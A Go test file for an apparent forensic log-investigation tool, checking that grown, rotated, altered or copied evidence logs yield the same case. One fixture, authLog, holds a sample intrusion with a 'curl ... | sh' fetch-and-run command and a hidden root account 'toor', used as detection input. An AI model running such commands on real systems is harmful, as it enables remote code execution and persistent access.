package cli

import (
	"archive/zip"
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/kulla-defence/kulla/internal/custody"
	"github.com/kulla-defence/kulla/internal/evtxwriter"
	"github.com/kulla-defence/kulla/internal/findingjson"
	"github.com/kulla-defence/kulla/internal/report"
	"github.com/kulla-defence/kulla/internal/store"
)

// comparable is all that a case says, in lines that do not depend on how many
// runs made it: findings are named by their records in place of their leaves.
func comparable(t *testing.T, file string) string {
	t.Helper()
	var all bytes.Buffer
	kept(t, file, func(c *store.Case) {
		names := map[int64]string{}
		var lines []string
		for f, err := range c.Findings(store.Filter{}) {
			if err != nil {
				t.Fatal(err)
			}
			f.Finding.Place.Source = nil
			if f.Correlation != nil {
				for i := range f.Correlation.Events {
					f.Correlation.Events[i].Place.Source = nil
				}
			}
			bare := findingjson.AppendNamed(nil, f.Finding, c.Digest(), findingjson.Key{})
			names[f.Number] = fmt.Sprintf("%s %d %s", f.Rule.Title, f.Place.Offset, hex.EncodeToString(f.Record[:4]))
			lines = append(lines, fmt.Sprintf("%s %s", bare, f.Incident))
		}
		slices.Sort(lines)
		all.WriteString(strings.Join(lines, "\n"))
		d, err := documentOf(file, c, nil)
		if err != nil {
			t.Fatal(err)
		}
		hours, err := c.Timeline()
		if err != nil {
			t.Fatal(err)
		}
		for i := range d.Evidence {
			d.Evidence[i].Aliases = nil
		}
		for _, value := range []any{d.Incidents, d.Assessment, d.Evidence, d.Unseen, d.Levels, d.Clocks, hours} {
			all.WriteString("\n")
			all.WriteString(withoutNumbers(t, value, names))
		}
	})
	return all.String()
}

// withoutNumbers is a value as JSON in which findings stand by their names.
func withoutNumbers(t *testing.T, value any, names map[int64]string) string {
	t.Helper()
	data, err := json.Marshal(value)
	if err != nil {
		t.Fatal(err)
	}
	var decoded any
	if err := json.Unmarshal(data, &decoded); err != nil {
		t.Fatal(err)
	}
	data, err = json.MarshalIndent(named(decoded, "", names), "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func named(value any, key string, names map[int64]string) any {
	switch value := value.(type) {
	case map[string]any:
		for key, member := range value {
			value[key] = named(member, key, names)
		}
	case []any:
		for i := range value {
			value[i] = named(value[i], key, names)
		}
		if key == "proof" || key == "findings" {
			slices.SortFunc(value, func(a, b any) int { return strings.Compare(fmt.Sprint(a), fmt.Sprint(b)) })
		}
	case float64:
		if key == "proof" || key == "findings" || key == "finding" || key == "example" {
			return names[int64(value)]
		}
	case string:
		if number, ok := strings.CutPrefix(value, "finding "); ok {
			n, err := strconv.ParseInt(number, 10, 64)
			if err == nil {
				return names[n]
			}
		}
	}
	return value
}

// verified runs "kulla verify" over a case and its evidence.
func verified(t *testing.T, file string, evidence ...string) (output string, code int) {
	t.Helper()
	out, _, code := running(t, append([]string{"verify", file}, evidence...)...)
	return out, code
}

// running runs a command that may fail.
func running(t *testing.T, arguments ...string) (output, errors string, code int) {
	t.Helper()
	var out, errorOut bytes.Buffer
	code = Run(t.Context(), arguments, Environment{In: strings.NewReader(""), Out: &out, Err: &errorOut, OutTerminal: noTerminal, ErrTerminal: noTerminal,
		Now: time.Now, Getenv: func(string) string { return "" }, TempDir: t.TempDir()})
	return out.String(), errorOut.String(), code
}

// sampleFile puts a member of the sample's archive, or its first lines, into a file.
func sampleFile(t *testing.T, path, member string, share int) string {
	t.Helper()
	data := sampleMember(t, member)
	lines := bytes.SplitAfter(data, []byte("\n"))
	place(t, path, bytes.Join(lines[:len(lines)*share/100], nil))
	return path
}

// place writes a file into a folder that it makes.
func place(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, path, string(data))
}

// sampleMember reads a member of the sample's archive.
func sampleMember(t *testing.T, name string) []byte {
	t.Helper()
	archive, err := zip.OpenReader(sampleEvidence())
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	member, err := archive.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer member.Close()
	data, err := io.ReadAll(member)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

const mailLog = "MAIL01/W3SVC1/u_ex211012.log"

// A log that is read step by step while it grows makes the case that it makes
// read once.
func TestGrownLogIsReadOnce(t *testing.T) {
	t.Parallel()
	slow(t)
	for _, member := range []string{mailLog, "MAIL01/W3SVC1/u_ex220715.log"} {
		evidence := filepath.Join(t.TempDir(), "u.log")
		file := filepath.Join(t.TempDir(), "x"+caseExtension)
		var out string
		for _, share := range []int{25, 50, 75, 100} {
			sampleFile(t, evidence, member, share)
			out = extending(t, file, "--no-report", evidence)
		}
		if !strings.Contains(out, "grown since") {
			t.Errorf("the last run does not say that the file has grown:\n%s", out)
		}
		want := comparable(t, investigating(t, "--no-report", evidence))
		if got := comparable(t, file); got != want {
			t.Errorf("%s: step by step is not once (-once +steps):\n%s", member, cmp.Diff(want, got))
		}
		if out, code := verified(t, file, evidence); code != exitDone {
			t.Errorf("verify: code %d\n%s", code, out)
		}
		before := told(t, file)
		if out = extending(t, file, "--no-report", evidence); !strings.Contains(out, "unchanged") || told(t, file) != before {
			t.Errorf("the same again:\n%s", out)
		}
	}
}

// A log of which only a part of a record was there is told by the whole.
func TestGrownRecordIsReadOnce(t *testing.T) {
	t.Parallel()
	evidence := filepath.Join(t.TempDir(), "u.log")
	file := filepath.Join(t.TempDir(), "x"+caseExtension)
	data := sampleMember(t, mailLog)
	for _, size := range []int{len(data)/2 + 31, len(data)/2 + 75, len(data)} {
		write(t, evidence, string(data[:size]))
		extending(t, file, "--no-report", evidence)
	}
	want := comparable(t, investigating(t, "--no-report", evidence))
	if got := comparable(t, file); got != want {
		t.Errorf("step by step is not once (-once +steps):\n%s", cmp.Diff(want, got))
	}
}

// An earlier content of a log that has grown adds nothing, and that is said.
func TestEarlierContentAddsNothing(t *testing.T) {
	t.Parallel()
	evidence := filepath.Join(t.TempDir(), "u.log")
	file := filepath.Join(t.TempDir(), "x"+caseExtension)
	for _, share := range []int{50, 100} {
		extending(t, file, "--no-report", sampleFile(t, evidence, mailLog, share))
	}
	want := told(t, file)
	out := extending(t, file, "--no-report", sampleFile(t, evidence, mailLog, 50))
	if !strings.Contains(out, "earlier content") || told(t, file) != want {
		t.Errorf("it changes the case, or does not say what it is:\n%s", out)
	}
}

// Evidence under another path, in whatever archive, is the same evidence.
func TestEvidenceUnderAnotherPathIsTheSame(t *testing.T) {
	t.Parallel()
	slow(t)
	data, err := os.ReadFile(sampleEvidence())
	if err != nil {
		t.Fatal(err)
	}
	elsewhere := filepath.Join(t.TempDir(), "other", "again.zip")
	place(t, elsewhere, data)
	file := investigating(t, "--no-report", sampleEvidence())
	want := comparable(t, file)
	out := extending(t, file, "--no-report", elsewhere)
	if got := comparable(t, file); got != want {
		t.Errorf("the same evidence changes the case (-before +after):\n%s", cmp.Diff(want, got))
	}
	if !strings.Contains(out, "known by another name") {
		t.Errorf("it does not say so:\n%s", out)
	}
	kept(t, file, func(c *store.Case) {
		files, err := c.Evidence()
		if err != nil || len(files[0].Aliases) != 1 || !strings.HasPrefix(files[0].Aliases[0], elsewhere) {
			t.Errorf("aliases of %+v, %v", files[0], err)
		}
	})
	if out, code := verified(t, file, elsewhere); code != exitDone {
		t.Errorf("verify: code %d\n%s", code, out)
	}
	if out := extending(t, file, "--no-report", elsewhere); !strings.Contains(out, "unchanged") {
		t.Errorf("a third time:\n%s", out)
	}
}

// Two copies in one run are one piece of evidence.
func TestCopiesInOneRunAreOne(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	one := sampleFile(t, filepath.Join(folder, "a", "u.log"), mailLog, 100)
	want := comparable(t, investigating(t, "--no-report", one))
	for _, name := range []string{"b/u.log", "c/copy.log"} {
		sampleFile(t, filepath.Join(folder, name), mailLog, 100)
	}
	file := investigating(t, "--no-report", folder)
	kept(t, file, func(c *store.Case) {
		files, err := c.Evidence()
		if err != nil || len(files) != 1 || len(files[0].Aliases) != 2 {
			t.Errorf("%+v, %v", files, err)
		}
	})
	if got := strings.Count(comparable(t, file), "\n{"); got != strings.Count(want, "\n{") {
		t.Errorf("%d findings, of one copy %d", got, strings.Count(want, "\n{"))
	}
}

const authLog = `Jul 15 03:00:01 web01 sshd[811]: Accepted password for root from 203.0.113.9 port 4022 ssh2
Jul 15 03:00:09 web01 sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl http://203.0.113.9/x | sh
Jul 15 03:02:00 web01 useradd[900]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none
Jul 15 03:03:00 web01 sshd[815]: Accepted publickey for toor from 203.0.113.9 port 4028 ssh2
`

// What was said wrongly of a log, and then rightly, makes the case that was
// right from the beginning.
func TestRightOptionsTakeThePlaceOfWrongOnes(t *testing.T) {
	t.Parallel()
	evidence := filepath.Join(t.TempDir(), "auth.log")
	write(t, evidence, authLog)
	right := []string{"--no-report", "--source-year", "2024", "--source-tz", "Europe/Tirane", evidence}
	want := comparable(t, investigating(t, right...))
	if !strings.Contains(want, "2024-07-15T01:0") {
		t.Fatalf("nothing is found at the right time:\n%s", want)
	}
	for _, wrong := range [][]string{
		{evidence},
		{"--source-year", "2024", evidence},
		{"--source-year", "2023", "--source-tz", "Asia/Tokyo", evidence},
		{"--as", "accesslog", evidence},
	} {
		file := investigating(t, append([]string{"--no-report"}, wrong...)...)
		out := extending(t, file, append([]string{"--as", "syslog"}, right...)...)
		if got := comparable(t, file); got != want {
			t.Errorf("after %q it is not what was right at once (-at once +after):\n%s", wrong, cmp.Diff(want, got))
		}
		if !strings.Contains(out, "read anew, with other options") {
			t.Errorf("after %q it does not say that the file was read anew:\n%s", wrong, out)
		}
		if out, code := verified(t, file, evidence); code != exitDone {
			t.Errorf("verify: code %d\n%s", code, out)
		}
		if out := extending(t, file, "--no-report", evidence); !strings.Contains(out, "unchanged") {
			t.Errorf("what was said is forgotten:\n%s", out)
		}
	}
}

// A superseded finding stays in the ledger, and a later leaf says so.
func TestSupersededFindingsStayInTheLedger(t *testing.T) {
	t.Parallel()
	evidence := filepath.Join(t.TempDir(), "auth.log")
	write(t, evidence, authLog)
	file := investigating(t, "--no-report", "--source-year", "2023", evidence)
	var before []string
	kept(t, file, func(c *store.Case) { before = findingLeaves(t, c) })
	extending(t, file, "--no-report", "--source-year", "2024", evidence)
	kept(t, file, func(c *store.Case) {
		after := findingLeaves(t, c)
		if len(after) != 2*len(before) || !slices.Equal(after[:len(before)], before) {
			t.Errorf("%d findings were in the ledger, %d are", len(before), len(after))
		}
		if n := count(t, c); n != int64(len(before)) {
			t.Errorf("%d findings hold, want %d", n, len(before))
		}
	})
}

func findingLeaves(t *testing.T, c *store.Case) (leaves []string) {
	t.Helper()
	for leaf, err := range c.Leaves() {
		if err != nil {
			t.Fatal(err)
		}
		if leaf.Kind == custody.KindFinding {
			leaves = append(leaves, string(leaf.Data))
		}
	}
	return leaves
}

// A byte that was changed between two runs is said by the second, by the case
// from then on, and by verify; what stands there still is not counted twice.
func TestAlteredEvidenceIsSaid(t *testing.T) {
	t.Parallel()
	evidence := sampleFile(t, filepath.Join(t.TempDir(), "u.log"), mailLog, 100)
	file := investigating(t, "--no-report", evidence)
	var before int64
	kept(t, file, func(c *store.Case) { before = count(t, c) })
	data := sampleMember(t, mailLog)
	at := bytes.LastIndex(data, []byte("/EWS/"))
	data[at+1] ^= 0x20
	write(t, evidence, string(data))
	for range 2 {
		_, errors, code := running(t, "investigate", "--no-report", "-q", "--key", filepath.Join(filepath.Dir(file), "signing.key"), "-o", file, evidence)
		if code != exitDone || !strings.Contains(errors, "WARNING: "+evidence+": ") {
			t.Errorf("code %d: %s", code, errors)
		}
		kept(t, file, func(c *store.Case) {
			unseen, err := recall[[]report.Unseen](c, metaUnseen)
			if err != nil || len(unseen) == 0 || unseen[0].What != report.EvidenceAltered || !strings.Contains(unseen[0].Why, evidence) {
				t.Errorf("not seen: %+v, %v", unseen, err)
			}
			if n := count(t, c); n > before+5 {
				t.Errorf("%d findings, before one byte was altered %d", n, before)
			}
		})
		if out, code := verified(t, file, evidence); code != exitError || !strings.Contains(out, "does not continue") {
			t.Errorf("verify: code %d\n%s", code, out)
		}
	}
	if out, _ := kulla(t, "case", "show", file); !strings.Contains(out, report.EvidenceAltered) {
		t.Errorf("the summary does not say so:\n%s", out)
	}
}

// An event that stands in an altered file as it stood before is one event to
// correlations, in later runs too.
func TestAlteredEvidenceIsCorrelatedOnce(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	evidence, other := sampleFile(t, filepath.Join(folder, "u.log"), mailLog, 100), filepath.Join(folder, "auth.log")
	rules := filepath.Join(t.TempDir(), "many.yml")
	write(t, rules, `title: Exchange
name: exchange
id: 6e6b3a52-0000-4000-8000-000000000011
logsource: {category: webserver}
detection: {a: {cs-uri-stem|startswith: /EWS/}, condition: a}
level: low
---
title: Much of Exchange
id: 6e6b3a52-0000-4000-8000-000000000012
correlation: {type: event_count, rules: [exchange], timespan: 30d, condition: {gte: 2}}
level: low
`)
	counts := func(file string) (all []int64) {
		kept(t, file, func(c *store.Case) {
			for f := range c.Findings(store.Filter{Rule: "Much of Exchange"}) {
				all = append(all, f.Correlation.Count)
			}
		})
		return all
	}
	file := investigating(t, "--no-report", "--rules", rules, evidence)
	before := counts(file)
	if len(before) != 1 {
		t.Fatalf("the rule finds %d", before)
	}
	data := sampleMember(t, mailLog)
	data[bytes.LastIndex(data, []byte("/EWS/"))-1] ^= 0x20
	write(t, evidence, string(data))
	write(t, other, authLog)
	for _, path := range []string{evidence, evidence, other} {
		extending(t, file, "--no-report", "--rules", rules, path)
		if after := counts(file); len(after) != 1 || after[0] < before[0] || after[0] > before[0]+1 {
			t.Errorf("%s: the rule counts %d, before one byte was altered %d", path, after, before)
		}
	}
}

// Evidence that a rule set could not correlate is said until a run of the set
// has covered all.
func TestUncorrelatedEvidenceIsSaidUntilItIsRead(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	log, other := sampleFile(t, filepath.Join(folder, "u.log"), mailLog, 100), filepath.Join(folder, "auth.log")
	write(t, other, authLog)
	rules := filepath.Join(t.TempDir(), "two.yml")
	write(t, rules, `title: Exchange
name: exchange
id: 6e6b3a52-0000-4000-8000-000000000013
logsource: {category: webserver}
detection: {a: {cs-uri-stem|startswith: /EWS/}, condition: a}
level: low
---
title: Much
id: 6e6b3a52-0000-4000-8000-000000000014
correlation: {type: event_count, rules: [exchange], timespan: 1d, condition: {gte: 2}}
level: low
`)
	file := filepath.Join(t.TempDir(), "x"+caseExtension)
	for _, step := range []struct {
		want      int
		arguments []string
	}{{0, []string{"--rules", rules, log}}, {1, []string{other}}, {1, []string{other}}, {2, []string{"--rules", rules, log}}, {1, []string{folder}}, {0, []string{"--rules", rules, folder}}} {
		extending(t, file, append([]string{"--no-report"}, step.arguments...)...)
		kept(t, file, func(c *store.Case) {
			said := 0
			for _, one := range must(recall[[]report.Unseen](c, metaUnseen)) {
				if one.What == report.Correlations && strings.Contains(one.Why, "1 file of the case was read earlier with other rules") {
					said++
				}
			}
			if said != step.want {
				t.Errorf("after %q it is said %d times, want %d", step.arguments, said, step.want)
			}
		})
	}
}

// What one rule set could not see is not forgotten for another.
func TestBlindnessIsKeptByRuleSet(t *testing.T) {
	t.Parallel()
	evidence := sampleFile(t, filepath.Join(t.TempDir(), "u.log"), mailLog, 100)
	file := investigating(t, "--no-report", evidence)
	rules := filepath.Join(t.TempDir(), "one.yml")
	write(t, rules, "title: One\nid: 6e6b3a52-0000-4000-8000-000000000009\nlogsource: {product: windows, service: sysmon}\ndetection: {a: {EventID: 1}, condition: a}\nlevel: low\n")
	var before []report.Unseen
	kept(t, file, func(c *store.Case) { before = must(recall[[]report.Unseen](c, metaUnseen)) })
	if out := extending(t, file, "--no-report", "--rules", rules, evidence); !strings.Contains(out, "a rule set is new") {
		t.Errorf("it does not say that a rule set is new:\n%s", out)
	}
	kept(t, file, func(c *store.Case) {
		after := must(recall[[]report.Unseen](c, metaUnseen))
		if len(after) != len(before)+1 {
			t.Errorf("%d things were not seen, and then %d", len(before), len(after))
		}
		d, err := documentOf(file, c, nil)
		if err != nil || strings.Count(d.Rules, "SHA-256") != 2 || !strings.Contains(d.Rules, "1 rule, ") {
			t.Errorf("rules: %s, %v", d.Rules, err)
		}
	})
	if out := extending(t, file, "--no-report", evidence); !strings.Contains(out, "unchanged") {
		t.Errorf("the first rule set again:\n%s", out)
	}
}

func must[T any](value T, err error) T {
	if err != nil {
		panic(err)
	}
	return value
}

// Who was attacked is remembered, and a changed assessment is said.
func TestVictimIsRemembered(t *testing.T) {
	t.Parallel()
	slow(t)
	file := investigating(t, "--no-report", "--victim-country", "al", "--victim-sector", "government", sampleEvidence())
	before := told(t, file)
	if !strings.Contains(before, "country=AL") {
		t.Fatal("the assessment does not rest on the victim")
	}
	if out := extending(t, file, "--no-report", sampleEvidence()); !strings.Contains(out, "unchanged") || told(t, file) != before {
		t.Errorf("the victim is forgotten:\n%s", out)
	}
	if out := extending(t, file, "--no-report", "--victim-country", "IL", sampleEvidence()); !strings.Contains(out, "assessment") || told(t, file) == before {
		t.Errorf("another victim:\n%s", out)
	}
	for _, wrong := range [][]string{{"--victim-country", "XX"}, {"--victim-country", "ALB"}, {"--victim-sector", "groceries"}} {
		_, errors, code := running(t, append([]string{"investigate", "-o", file, sampleEvidence()}, wrong...)...)
		if code != exitUsage || !strings.Contains(errors, "hint: ") {
			t.Errorf("%q: code %d: %s", wrong, code, errors)
		}
	}
}

// What was assessed on incidents that are no longer grave does not stay.
func TestAssessmentIsWithdrawn(t *testing.T) {
	t.Parallel()
	evidence := sampleFile(t, filepath.Join(t.TempDir(), "u.log"), mailLog, 100)
	file := investigating(t, "--no-report", evidence)
	kept(t, file, func(c *store.Case) {
		if a := must(c.Assessment()); a == nil {
			t.Fatal("nothing was assessed")
		}
	})
	out := extending(t, file, "--no-report", "--as", "accesslog", evidence)
	kept(t, file, func(c *store.Case) {
		if a := must(c.Assessment()); a != nil {
			t.Error("the assessment stays without incidents")
		}
	})
	if strings.Contains(out, "\nWho ") || !strings.Contains(out, "assessment") {
		t.Errorf("the run says:\n%s", out)
	}
	if out, code := verified(t, file, evidence); code != exitDone {
		t.Errorf("verify: code %d\n%s", code, out)
	}
}

// An event log that goes on is written anew at its beginning and its end; one
// whose records were overwritten is not the same.
func TestGrownEventLogIsReadOnce(t *testing.T) {
	t.Parallel()
	evidence := filepath.Join(t.TempDir(), "Security.evtx")
	file := filepath.Join(t.TempDir(), "x"+caseExtension)
	for _, last := range []int{40, 300, 900} {
		write(t, evidence, string(clearedLog(t, 1, last)))
		out := extending(t, file, "--no-report", evidence)
		if last > 40 && !strings.Contains(out, "grown since") {
			t.Errorf("%d records: it does not say that the log has grown:\n%s", last, out)
		}
	}
	want := comparable(t, investigating(t, "--no-report", evidence))
	if got := comparable(t, file); got != want {
		t.Errorf("step by step is not once (-once +steps):\n%s", cmp.Diff(want, got))
	}
	if out, code := verified(t, file, evidence); code != exitDone {
		t.Errorf("verify: code %d\n%s", code, out)
	}
	write(t, evidence, string(clearedLog(t, 600, 1800)))
	_, errors, _ := running(t, "investigate", "--no-report", "-q", "--key", filepath.Join(filepath.Dir(file), "signing.key"), "-o", file, evidence)
	if !strings.Contains(errors, "WARNING: ") {
		t.Errorf("it does not say that records are gone: %s", errors)
	}
}

// clearedLog is a Security log in which each record says that it was cleared.
func clearedLog(t *testing.T, first, last int) []byte {
	t.Helper()
	start := time.Date(2022, 7, 15, 3, 0, 0, 0, time.UTC)
	var events []evtxwriter.Event
	for id := first; id <= last; id++ {
		events = append(events, evtxwriter.Event{Provider: "Microsoft-Windows-Eventlog", EventID: 1102, Channel: "Security", Computer: "WEB01", RecordID: uint64(id),
			Time: start.Add(time.Duration(id) * time.Second), Data: []evtxwriter.Field{{Name: "SubjectUserName", Value: evtxwriter.String(fmt.Sprint("user", id%7))}}})
	}
	data, err := evtxwriter.Encode(evtxwriter.Options{}, events...)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// Logs that were rotated are known by their content, whatever their number.
func TestRotatedLogsAreReadOnce(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	log, rotated := filepath.Join(folder, "u.log"), filepath.Join(folder, "u.log.1")
	file := filepath.Join(t.TempDir(), "x"+caseExtension)
	sampleFile(t, log, mailLog, 50)
	extending(t, file, "--no-report", folder)
	sampleFile(t, rotated, mailLog, 75)
	fresh := bytes.SplitAfter(sampleMember(t, mailLog), []byte("\n"))
	begin := len(fresh) * 75 / 100
	place(t, log, bytes.Join(append(slices.Clone(fresh[:4]), fresh[begin:]...), nil))
	_, errors, code := running(t, "investigate", "--no-report", "-q", "--key", filepath.Join(filepath.Dir(file), "signing.key"), "-o", file, folder)
	if code != exitDone || strings.Contains(errors, "WARNING") {
		t.Errorf("code %d: %s", code, errors)
	}
	kept(t, file, func(c *store.Case) {
		kept(t, investigating(t, "--no-report", folder), func(once *store.Case) {
			if got, want := count(t, c), count(t, once); got != want {
				t.Errorf("%d findings, at once %d", got, want)
			}
			if got, want := len(must(c.Evidence())), len(must(once.Evidence())); got != want {
				t.Errorf("%d files, at once %d", got, want)
			}
		})
	})
	if out, code := verified(t, file, folder); code != exitDone {
		t.Errorf("verify: code %d\n%s", code, out)
	}
}

// Where only one log of many has grown and is read, the others stay.
func TestOneOfManyLogsGrows(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	log := filepath.Join(folder, "u.log")
	sampleFile(t, log, mailLog, 50)
	write(t, filepath.Join(folder, "auth.log"), authLog)
	file := investigating(t, "--no-report", "--source-year", "2021", folder)
	extending(t, file, "--no-report", sampleFile(t, log, mailLog, 100))
	want := comparable(t, investigating(t, "--no-report", "--source-year", "2021", folder))
	if got := comparable(t, file); got != want {
		t.Errorf("step by step is not once (-once +steps):\n%s", cmp.Diff(want, got))
	}
}

// A file that could not be read, and then can, is no longer among what could
// not be seen.
func TestReadAtLast(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	log := filepath.Join(folder, "u.log")
	write(t, filepath.Join(folder, "auth.log"), authLog)
	file := investigating(t, "--no-report", folder, log)
	extending(t, file, "--no-report", folder, sampleFile(t, log, mailLog, 100))
	want := comparable(t, investigating(t, "--no-report", folder))
	if got := comparable(t, file); got != want {
		t.Errorf("it is not what it is at once (-once +after):\n%s", cmp.Diff(want, got))
	}
}

// An earlier snapshot beside the log that it is of adds nothing.
func TestSnapshotBesideItsLog(t *testing.T) {
	t.Parallel()
	for _, names := range [][2]string{{"a/u.log", "b/u.log"}, {"b/u.log", "a/u.log"}} {
		folder := t.TempDir()
		snapshot, log := filepath.Join(folder, names[0]), filepath.Join(folder, names[1])
		file := investigating(t, "--no-report", sampleFile(t, snapshot, mailLog, 50))
		sampleFile(t, log, mailLog, 100)
		extending(t, file, "--no-report", folder)
		kept(t, file, func(c *store.Case) {
			kept(t, investigating(t, "--no-report", log), func(once *store.Case) {
				if files := must(c.Evidence()); count(t, c) != count(t, once) || len(files) != 1 || files[0].Size != must(once.Evidence())[0].Size {
					t.Errorf("%v: %d findings, of the log alone %d; %+v", names, count(t, c), count(t, once), files)
				}
			})
		})
	}
}
